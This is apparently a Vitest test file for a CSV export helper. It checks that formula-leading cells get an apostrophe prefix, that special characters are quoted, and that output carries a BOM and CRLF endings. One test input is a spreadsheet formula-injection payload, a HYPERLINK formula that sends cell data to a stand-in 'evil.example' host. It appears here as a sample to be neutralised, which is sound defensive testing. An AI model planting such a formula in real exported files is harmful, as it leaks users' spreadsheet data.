import { describe, expect, it } from 'vitest';
import { BOM, csvCell, toCsv } from './csv';

describe('csvCell', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("https://evil.example/?"&A1,"x")'])('neutralises a formula start: %j', (v) => {
    const cell = csvCell(v);
    // The spreadsheet sees text starting with an apostrophe, whatever quoting is around it.
    expect(cell.replace(/^"/, '').startsWith(`'${v[0]}`)).toBe(true);
  });

  it('leaves ordinary text alone', () => {
    expect(csvCell('客服')).toBe('客服');
    expect(csvCell('a b')).toBe('a b');
    expect(csvCell("it's")).toBe("it's");
    expect(csvCell(' =x')).toBe(' =x');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(null)).toBe('');
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
  });
});

describe('toCsv', () => {
  it('starts with a BOM and ends each line with CRLF', () => {
    const text = toCsv([
      ['用户', '表单'],
      ['张三', '客户'],
    ]);
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.slice(1)).toBe('用户,表单\r\n张三,客户\r\n');
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });
});
